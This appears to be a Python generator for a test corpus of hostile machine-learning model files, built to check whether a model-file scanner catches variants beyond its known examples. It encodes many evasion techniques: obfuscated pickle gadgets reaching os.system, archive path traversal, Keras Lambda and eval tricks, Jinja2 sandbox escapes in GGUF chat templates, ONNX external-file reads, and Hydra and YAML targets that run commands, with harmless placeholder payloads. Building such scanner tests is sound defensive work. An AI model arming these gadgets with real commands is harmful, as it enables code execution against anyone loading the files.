"""What was crafted once the scanner read all the rest: other ways to the same ends, to see what it knows beyond its examples."""

import io
import json
import struct
import zipfile
import zlib

import h5py
import zstandard

from .archives import HOSTILE, array_header, changed_in_headers, object_array, regular, state_dict, tarred, torch_archive, zipped
from .assemble import (
    BUILD,
    EMPTY_TUPLE,
    HARMLESS_CODE,
    HARMLESS_EXPRESSION,
    NEWOBJ,
    POP,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    SYSTEM,
    Opcodes,
    call,
    encode,
    get,
    many,
    proto,
    put,
    stack_name,
    table,
    text,
)
from .graphs import graph, node, onnx, saved_model, tensor, text_tensor
from .headers import ARCHITECTURE, gguf, pair, safetensors, weight
from .headers import text as gguf_text
from .keras import archive, layer, lambda_code, sequential
from .protobuf import field
from .second_stage import array_wrapper

CLOAK = "https://arxiv.org/abs/2508.19774"
PICKORA = "https://github.com/splitline/Pickora"
SYSTEM_NAME = stack_name("os", "system")


def whole(body):
    return proto(4) + body + STOP


# Modules of libraries that a model has good reason to name, and in them what reaches files, hosts and code.
WITHIN = [
    ("numpy.lib._datasource", "DataSource.open", [None, "http://none.invalid/"]),
    ("numpy", "memmap", ["touched-by-scan-corpus", "u1", "w+", 0, (8,)]),
    ("numpy", "savetxt", ["touched-by-scan-corpus", [1]]),
    ("numpy", "fromfile", ["/etc/hostname"]),
    ("numpy", "ndarray.tofile", [None, "touched-by-scan-corpus"]),
    ("numpy.distutils.exec_command", "exec_command", ["true"]),
    ("numpy.ma.core", "MaskedArray.dump", [None, "touched-by-scan-corpus"]),
    ("numpy.core.records", "fromfile", ["/etc/hostname"]),
    ("numpy.core.multiarray", "fromfile", ["/etc/hostname"]),
    ("scipy.io", "loadmat", ["/etc/hostname"]),
    ("scipy.sparse", "load_npz", ["second-stage.npz"]),
    ("sklearn.datasets", "fetch_openml", ["none"]),
    ("sklearn.datasets._base", "_fetch_remote", [{"url": "http://none.invalid/"}]),
    ("sklearn.utils._testing", "assert_run_python_script_without_output", [HARMLESS_CODE]),
    ("sklearn.utils._joblib", "Parallel", []),
    ("joblib.memory", "Memory", ["."]),
    ("joblib.externals.cloudpickle.cloudpickle", "subimport", ["antigravity"]),
    ("joblib.externals.loky.backend.spawn", "prepare", [{"init_main_from_path": "x.py"}]),
    ("joblib.numpy_pickle_utils", "_read_fileobject", [None, "x"]),
    ("torch", "load", ["second-stage.pt"]),
    ("torch.jit", "load", ["second-stage.pt"]),
    ("torch.utils.cpp_extension", "load_inline", ["x", "int main() {}"]),
    ("torch._ops", "_Ops.load_library", [None, "none.so"]),
    ("torch.package.package_importer", "PackageImporter", ["second-stage.pt"]),
    ("torch.storage", "UntypedStorage.from_file", ["/etc/hostname", False, 8]),
    ("torch", "from_file", ["/etc/hostname"]),
    ("torch.utils.model_zoo", "load_url", ["http://none.invalid/"]),
    ("torch._utils", "os.system", ["true"]),
    ("torch.nn.modules.module", "torch.os.system", ["true"]),
    ("torch.serialization", "os.remove", ["touched-by-scan-corpus"]),
    ("pandas.core.frame", "DataFrame.to_pickle", [None, "touched-by-scan-corpus"]),
    ("pandas.io.common", "urlopen", ["http://none.invalid/"]),
    ("pandas.core.frame", "DataFrame.eval", [None, "@__import__('os').system('true')"]),
    ("pandas.core.computation.eval", "eval", [HARMLESS_EXPRESSION]),
    ("pandas.io.sql", "read_sql", ["select 1", "sqlite:///touched-by-scan-corpus"]),
    ("pathlib", "Path.write_text", [None, "x"]),
    ("pathlib", "PosixPath.unlink", [None]),
    ("pathlib", "PurePath.__init__.__globals__.get", ["os"]),
    ("uuid", "UUID.__init__.__globals__.get", ["os"]),
    ("argparse", "FileType.__call__", [None, "touched-by-scan-corpus"]),
    ("argparse", "_sys.modules.get", ["os"]),
    ("decimal", "_sys.exit", [0]),
    ("collections", "OrderedDict.__reduce__.__globals__.get", ["os"]),
    ("datetime", "sys.modules.get", ["os"]),
    ("zoneinfo", "ZoneInfo.from_file", [None]),
    ("re", "enum.sys.modules.get", ["os"]),
    ("fractions", "re.enum.sys.exit", [0]),
    ("copyreg", "dispatch_table.get", [None]),
    ("copyreg", "pickle", [Opcodes(stack_name("builtins", "dict")), Opcodes(SYSTEM_NAME)]),
    ("lightgbm.basic", "Booster", [None, None, "/etc/hostname"]),
    ("lightgbm.compat", "json.codecs.open", ["touched-by-scan-corpus", "w"]),
    ("xgboost.core", "os.system", ["true"]),
    ("tensorflow.io", "write_file", ["touched-by-scan-corpus", "x"]),
    ("keras.utils", "get_file", ["x", "http://none.invalid/"]),
    ("zipfile", "ZipFile.extractall", [None, "."]),
    ("zipimport", "zipimporter", ["second-stage.zip"]),
    ("cffi", "FFI.dlopen", [None, "none.so"]),
    ("jinja2.environment", "Environment.from_string", [None, "{{ 1 }}"]),
    ("setuptools.sandbox", "run_setup", ["setup.py", []]),
    ("IPython.utils.process", "system", ["true"]),
    ("itertools", "starmap", [Opcodes(SYSTEM_NAME), [("true",)]]),
    ("functools", "reduce", [Opcodes(SYSTEM_NAME), ["true"]]),
    ("builtins", "setattr", [Opcodes(stack_name("numpy", "load")), "x", 1]),
    ("builtins", "type", ["X", (), {}]),
    ("builtins", "globals", []),
    ("builtins", "input", []),
    ("builtins", "help", ["modules"]),
    ("builtins", "exit", [0]),
    ("builtins", "__import__", ["antigravity"]),
    ("signal", "raise_signal", [15]),
    ("faulthandler", "_sigsegv", []),
    ("gc", "get_objects", []),
    ("inspect", "getsource", [None]),
    ("sqlite3", "connect", ["touched-by-scan-corpus"]),
    ("dbm.dumb", "open", ["touched-by-scan-corpus"]),
    ("multiprocessing.connection", "Client", [("none.invalid", 9)]),
    ("xmlrpc.client", "ServerProxy", ["http://none.invalid/"]),
    ("concurrent.futures", "ProcessPoolExecutor", []),
    ("weakref", "finalize", [Opcodes(stack_name("builtins", "object")), Opcodes(SYSTEM_NAME), "true"]),
    ("contextlib", "ExitStack.callback", [None, Opcodes(SYSTEM_NAME), "true"]),
    ("threading", "Timer", [0, Opcodes(SYSTEM_NAME), ["true"]]),
]


def named():
    for module, attribute, arguments in WITHIN:
        label = f"{module}.{attribute}".replace("_", "").replace(".", "-").lower()
        yield f"named-{label}.pkl", whole(call(stack_name(module, attribute), *arguments)), f"calls {module}.{attribute}", CLOAK


def opcodes():
    underscores = text("collections") + put(10) + POP + text("OrderedDict") + put(20) + POP
    underscores += text("os") + b"p1_0\n" + POP + text("system") + b"p 20 \n" + POP
    yield "memo-number-spelled", whole(underscores + get(10) + get(20) + STACK_GLOBAL + many(text("true")) + REDUCE), "numbers of the memo as Python reads them and others do not", PICKORA
    plus = text("os") + b"p+3\n" + POP + text("system") + b"p-0\n" + POP
    yield "memo-number-signed", whole(plus + b"g3\n" + b"j\x00\x00\x00\x00" + STACK_GLOBAL + many(text("true")) + REDUCE), "numbers of the memo with signs", PICKORA
    yield "name-wide-escape", proto(2) + b"V\\U0000006fs\n" + b"Vs\\u0079st\\u0065m\n" + STACK_GLOBAL + many(text("true")) + REDUCE + STOP, "names with long escapes", PICKORA
    yield "extension-four", whole(b"\x84\x39\x30\x00\x00" + many(text("true")) + REDUCE), "a code of the extension registry that nobody knows", PICKORA
    yield "next-buffer", proto(5) + call(stack_name("pickle", "loads"), Opcodes(b"\x97")) + STOP, "a pickle from outside of the stream", PICKORA
    zone = stack_name("zoneinfo", "ZoneInfo")
    method = call(stack_name("builtins", "getattr"), Opcodes(zone), "from_file")
    reached = call(stack_name("builtins", "getattr"), Opcodes(method), "__globals__")
    yield "getattr-of-zone", whole(reached), "getattr of what is allowed, to where it was defined", PICKORA
    arrays = call(stack_name("builtins", "getattr"), Opcodes(stack_name("numpy", "ndarray")), "tofile")
    yield "getattr-of-array", whole(arrays), "getattr of an array's method that writes", PICKORA
    module = stack_name("sklearn", "utils") + encode((None, {"check_array": Opcodes(SYSTEM_NAME)})) + BUILD
    yield "build-module", whole(module), "puts os.system into a module by BUILD", PICKORA
    patched = stack_name("torch._utils", "_rebuild_tensor_v2") + encode((None, {"__code__": Opcodes(call(stack_name("marshal", "loads"), b"N"))})) + BUILD
    yield "build-function-code", whole(patched), "gives an allowed function other code by BUILD", PICKORA
    plain = stack_name("argparse", "Namespace") + encode((None, {"__getattr__": Opcodes(stack_name("builtins", "eval"))})) + BUILD
    yield "build-class", whole(plain), "gives a class eval as a method by BUILD", PICKORA
    slots = stack_name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + encode((None, {"__class__": Opcodes(stack_name("subprocess", "Popen"))})) + BUILD
    yield "build-other-class", whole(slots), "makes an object one of another class by BUILD", PICKORA
    default = call(stack_name("collections", "defaultdict"), Opcodes(SYSTEM_NAME))
    yield "default-factory", whole(default), "a dict whose missing entries are made by os.system", PICKORA
    rebuilt = call(stack_name("copyreg", "_reconstructor"), Opcodes(stack_name("subprocess", "Popen")), Opcodes(stack_name("builtins", "object")), None)
    yield "reconstructor", whole(rebuilt), "copyreg makes an object of a dangerous class", PICKORA
    newobj = call(stack_name("copyreg", "__newobj__"), Opcodes(stack_name("builtins", "map")), Opcodes(SYSTEM_NAME), ["true"])
    yield "copyreg-newobj", whole(call(stack_name("builtins", "list"), Opcodes(newobj))), "copyreg makes a map of os.system, list runs it", PICKORA
    ordered = call(stack_name("collections", "OrderedDict"), Opcodes(stack_name("builtins", "map") + encode((Opcodes(SYSTEM_NAME), ["true"])) + NEWOBJ))
    yield "ordered-of-map", whole(ordered), "an OrderedDict of a map of os.system runs it", PICKORA
    extended = call(stack_name("collections", "deque"), Opcodes(call(stack_name("builtins", "filter"), Opcodes(SYSTEM_NAME), ["true"])))
    yield "deque-of-filter", whole(extended), "a deque of a filter by os.system runs it", PICKORA
    scalar = call(stack_name("numpy.core.multiarray", "scalar"), Opcodes(call(stack_name("numpy", "dtype"), "O8")), SYSTEM)
    yield "numpy-object-scalar", whole(scalar), "a scalar of objects, which numpy unpickles", CLOAK
    yield "joblib-object-cut", whole(array_wrapper("O8", (1,), SYSTEM))[:-1].replace(b"numpy_array_alignment_bytes", b"numpy_array_alignment_bytez"), "joblib: objects in an array, a key misspelt", CLOAK
    record = table((text("subclass"), stack_name("numpy", "ndarray")), (text("shape"), encode((1,))), (text("order"), text("C")), (text("dtype"), call(stack_name("numpy", "dtype"), [("a", "O8")])), (text("allow_mmap"), b"\x89"))
    wrapper = stack_name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + record + BUILD
    yield "joblib-object-record", whole(wrapper + SYSTEM), "joblib: objects in a field of a record", CLOAK
    old = stack_name("joblib.numpy_pickle", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ + encode({"filename": "../../second-stage.npy", "allow_mmap": False}) + BUILD
    yield "joblib-other-file", whole(old), "the old format of joblib: an array in a file elsewhere", CLOAK


def containers():
    packed = zstandard.ZstdCompressor().compress(SYSTEM)
    yield "zstd.pkl", packed, "a pickle under zstd", "https://docs.python.org/3.14/library/compression.zstd.html"
    yield "rar.pth", b"Rar!\x1a\x07\x01\x00" + bytes(16) + SYSTEM, "a RAR archive under the extension of torch", "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
    yield "zip-behind-script.pt", b"#!/bin/sh\ntrue\nexit 0\n" + torch_archive({"data.pkl": HOSTILE}), "a script in front of a torch archive", "https://blog.trailofbits.com/2024/03/04/relishing-new-fickling-features-for-securing-ml-systems/"
    yield "zip-backslash.pt", zipped([("archive\\data.pkl", HOSTILE), ("archive\\version", b"3\n")]), "names with the separators of Windows", "CVE-2025-1944"
    method = changed_in_headers(torch_archive({"data.pkl": HOSTILE}), 8, 10, struct.pack("<H", 97))
    yield "zip-method.pt", method, "a compression that does not exist", "CVE-2025-1945"
    deep = SYSTEM
    for number in range(12):
        deep = zipped([(f"{number}.zip", deep)], zipfile.ZIP_DEFLATED)
    yield "zip-deep.zip", deep, "a pickle in a dozen of archives", "https://github.com/mmaitre314/picklescan"
    cut = torch_archive({"data.pkl": HOSTILE})
    yield "zip-without-end.pt", cut[: cut.rfind(b"PK\x01\x02")], "an archive without its directory", "CVE-2025-1944"
    unlisted = zipped([("archive/version", b"3\n")])
    local = zipped([("archive/data.pkl", SYSTEM)])
    yield "zip-unlisted.zip", local[: local.find(b"PK\x01\x02")] + unlisted, "an entry that the directory does not list", "CVE-2025-1944"
    yield "tar-in-zip.zip", zipped([("model.tar", tarred([regular("../touched-by-scan-corpus", b"x")]))]), "a tar that leads out, in a zip", "CVE-2025-12060"
    yield "zlib-twice.joblib", zlib.compress(zlib.compress(SYSTEM)), "zlib, twice", CLOAK
    yield "array-literal-joined.npy", object_array(SYSTEM, "'|' 'O'"), "a header whose literal Python joins", "CVE-2019-6446"
    yield "array-literal-escaped.npy", object_array(SYSTEM, "'\\x7c\\x4f'"), "a header whose literal has escapes", "CVE-2019-6446"
    yield "array-literal-sub.npy", object_array(SYSTEM, "('O', (1,))"), "a part of an array of objects", "CVE-2019-6446"
    yield "array-version.npy", b"\x93NUMPY\x09\x00" + array_header("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }")[8:] + SYSTEM, "a version of the header that does not exist", "CVE-2019-6446"
    yield "torch-constants-script.pt", torch_archive({"data.pkl": state_dict(), "code/__torch__/a.py.debug_pkl": SYSTEM, "code/__torch__/a.py": b"x = 1\n"}), "a pickle among what TorchScript keeps for debuggers", "CVE-2025-32434"


def hdf5(config, **more):
    out = io.BytesIO()
    with h5py.File(out, "w", **more) as file:
        file.attrs["model_config"] = json.dumps(config)
        file.create_group("model_weights")
    return out.getvalue()


def kerases():
    function = {"class_name": "__lambda__", "config": {"code": lambda_code(), "defaults": None, "closure": None}}
    new = layer("keras.layers", "Lambda", {"name": "l", "function": function})
    old = {"class_name": "Lambda", "config": {"name": "l", "function": [lambda_code(), None, None], "function_type": "lambda"}}
    model = {"class_name": "Sequential", "config": {"name": "s", "layers": [old]}}
    site = "CVE-2025-9905"
    yield "keras-latest.h5", hdf5(model, libver="latest"), "a Lambda in the newest form of HDF5", site
    yield "keras-behind-block.h5", hdf5(model, userblock_size=512), "a Lambda in HDF5 behind a block of its user", site
    many_layers = {"class_name": "Sequential", "config": {"layers": [*[{"class_name": "Dense", "config": {"name": f"dense_{n}", "units": 4}} for n in range(300)], old]}}
    yield "keras-large-config.h5", hdf5(many_layers, libver="latest"), "a Lambda behind hundreds of layers", site
    inner = {"class_name": "Functional", "config": {"name": "f", "layers": [{"class_name": "TimeDistributed", "config": {"layer": model}}]}}
    yield "keras-deep.h5", hdf5({"class_name": "Model", "config": {"layers": [inner]}}), "a Lambda within models within a wrapper", site
    escaped = json.dumps(sequential(new)).replace("Lambda", "L\\u0061mbda").replace("__lambda__", "__l\\u0061mbda__")
    yield "keras-escaped.keras", zipped([("metadata.json", b"{}"), ("config.json", escaped.encode())]), "a Lambda whose name has escapes", "CVE-2024-3660"
    twice = json.dumps(sequential(new)).replace('"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"')
    yield "keras-key-twice.keras", zipped([("metadata.json", b"{}"), ("config.json", twice.encode())]), "a key that stands twice", "CVE-2024-3660"
    yield "keras-architecture/model.json", json.dumps(model).encode(), "an architecture as JSON with a Lambda", "CVE-2024-3660"
    moved = layer("keras.src.layers.core.lambda_layer", "Lambda", {"name": "l", "function": function}, registered_name="keras>Lambda")
    yield "keras-other-module.keras", archive(sequential(moved)), "a Lambda under the name of its own module", "CVE-2024-3660"
    saved = layer("keras.layers", "TFSMLayer", {"name": "t", "filepath": "/tmp/none", "call_endpoint": "serve"})
    yield "keras-saved-model-layer.keras", archive(sequential(saved)), "a layer that loads a SavedModel from any place", "CVE-2026-1462"
    activation = layer("keras.layers", "Activation", {"name": "a", "activation": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}})
    yield "keras-activation.keras", archive(sequential(activation)), "an activation that is any function", "CVE-2025-1550"
    compiled = {**sequential(), "compile_config": {"loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}}
    yield "keras-loss.keras", archive(compiled), "a loss that is any function", "CVE-2025-1550"


SPELLED = {
    "format": "{{ messages|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "lower": "{{ messages['__CLASS__'|lower]['__BASE__'|lower] }}",
    "reverse": "{{ messages|attr('__ssalc__'[::-1]) }}",
    "map": "{{ messages|map(attribute='__class__.__init__.__globals__')|list }}",
    "select": "{{ messages|selectattr('__class__.__mro__')|list }}",
    "times": "{{ messages|attr(('_'*2) ~ 'class' ~ ('_'*2)) }}",
    "join": "{{ messages|attr(['__','class','__']|join) }}",
    "replace": "{{ messages|attr('--class--'|replace('-','_')) }}",
    "escape": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "include": "{% include '/etc/hostname' %}",
    "import": "{% from '../secrets.txt' import x %}",
    "namespace": "{{ namespace.__init__.__globals__ }}",
    "self": "{{ self._TemplateReference__context }}",
    "joiner": "{% set j = joiner %}{{ j['__init__'] }}",
    "raise": "{{ raise_exception.__globals__ }}",
    "strftime": "{{ strftime_now.__closure__ }}",
    "mutate": "{{ messages.__setitem__(0, 'x') }}",
}


def templates():
    for label, template in SPELLED.items():
        yield f"template-{label}.gguf", gguf([ARCHITECTURE, pair("tokenizer.chat_template", template)]), "a chat template that leaves its sandbox, otherwise spelt", "CVE-2026-5760"
    evil = SPELLED["namespace"]
    first = b"GGUF" + struct.pack("<III", 1, 0, 1) + struct.pack("<I", 23) + b"tokenizer.chat_template" + struct.pack("<II", 8, len(evil)) + evil.encode()
    yield "gguf-version-1.gguf", first, "the first version of GGUF", "CVE-2024-34359"
    big = b"GGUF" + struct.pack(">IQQ", 3, 0, 1) + struct.pack(">Q", 23) + b"tokenizer.chat_template" + struct.pack(">IQ", 8, len(evil)) + evil.encode()
    yield "gguf-big-endian.gguf", big, "GGUF in the other order of bytes", "CVE-2024-34359"
    listed = gguf_text("tokenizer.chat_templates") + struct.pack("<IIQ", 9, 8, 1) + gguf_text(evil)
    yield "gguf-list.gguf", gguf([ARCHITECTURE, listed]), "chat templates in an array", "CVE-2024-34359"


def structures():
    external = tensor("../../etc/hostname")
    sparse = field(1, external) + field(3, 4)
    held = graph() + field(15, sparse)
    yield "onnx-sparse.onnx", onnx(held), "a sparse tensor whose values lie outside", "CVE-2024-27318"
    listed = field(1, "values") + field(10, external) + field(20, 9)
    yield "onnx-list.onnx", onnx(graph(nodes=[field(2, "c") + field(4, "X") + field(5, listed)])), "tensors in a list of a node, outside", "CVE-2024-27318"
    training = onnx(graph()) + field(20, field(1, graph(external)))
    yield "onnx-training.onnx", training, "what is trained on lies outside", "CVE-2024-27318"
    both = b"".join(field(13, field(1, "location") + field(2, place)) for place in ("weights.bin", "../../etc/hostname"))
    yield "onnx-location-twice.onnx", onnx(graph(field(1, 4) + field(2, 1) + field(8, "w") + both + field(14, 1))), "two places for one tensor", "CVE-2024-27318"
    for operation in ("EagerPyFunc", "WholeFileReaderV2", "SaveDatasetV2", "CreateSummaryFileWriter", "MatchingFiles", "DatasetToTFRecord", "ImmutableConst"):
        yield f"saved-model-{operation.lower()}.pb", saved_model(node("n", operation, value=text_tensor("/etc/hostname"))), f"a graph with {operation}", "https://github.com/protectai/modelscan/blob/main/docs/model_serialization_attacks.md"
    asset = field(1, 1) + field(2, field(1, field(4, "serve")) + field(6, field(1, field(1, "x:0")) + field(2, "../../../etc/hostname")))
    yield "saved-model-asset.pb", asset, "an asset that leads out", "https://github.com/tensorflow/tensorflow/blob/master/SECURITY.md"
    good = weight(0, 16)
    yield "safetensors-escaped-twice.safetensors", safetensors(b'{"w":' + json.dumps(good).encode() + b',"\\u0077":' + json.dumps(weight(0, 8, (2,))).encode() + b"}", bytes(16)), "one name twice, once with an escape", "https://huggingface.co/docs/safetensors/index#format"
    yield "safetensors-three-offsets.safetensors", safetensors({"w": {**good, "data_offsets": [0, 16, 32]}}, bytes(16)), "three offsets", "https://huggingface.co/docs/safetensors/index#format"
    yield "safetensors-float-offset.safetensors", safetensors({"w": {**good, "data_offsets": [0.5, 16]}}, bytes(16)), "half an offset", "https://huggingface.co/docs/safetensors/index#format"
    yield "safetensors-negative-shape.safetensors", safetensors({"w": weight(0, 16, (-2, -2))}, bytes(16)), "a shape below zero", "https://huggingface.co/docs/safetensors/index#format"
    yield "safetensors-array.safetensors", safetensors(b"[1, 2]", bytes(16)), "a header that is no object", "https://huggingface.co/docs/safetensors/index#format"
    yield "safetensors-metadata-object.safetensors", safetensors({"__metadata__": {"a": {"b": 1}}, "w": good}, bytes(16)), "metadata that is no text", "https://huggingface.co/docs/safetensors/index#format"
    yield "hydra-quoted/config.yaml", b'model:\n  - "_tar\\u0067et_": builtins.exec\n', "a _target_ with an escape, in a list", "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
    yield "hydra-json/config.json", json.dumps({"model": {"_target_": "subprocess.Popen", "args": ["true"]}}).encode(), "a _target_ in JSON", "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
    yield "hydra-flow/config.yaml", b"model: {_target_: os.system, command: 'true'}\n", "a _target_ in one line", "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
    yield "yaml-tag/config.yml", b"model: !<tag:yaml.org,2002:python/object/new:os.system> ['true']\n", "a tag of YAML in its long form", "CVE-2020-14343"


def items():
    for file, content, what, after in opcodes():
        yield f"pickle-{file}.pkl", content, what, after
    for part in (named, containers, kerases, templates, structures):
        for file, content, what, after in part():
            yield file, content, what, after
